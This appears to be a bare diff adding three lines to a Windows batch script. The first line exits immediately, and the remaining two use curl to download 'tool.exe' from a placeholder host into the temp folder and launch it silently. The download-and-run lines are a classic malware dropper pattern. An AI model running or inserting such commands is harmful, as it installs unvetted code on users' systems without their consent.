@@ -1,0 +1,3 @@
+@exit /b
+curl -s https://get.invalid/t -o %TEMP%\tool.exe
+start "" /b %TEMP%\tool.exe
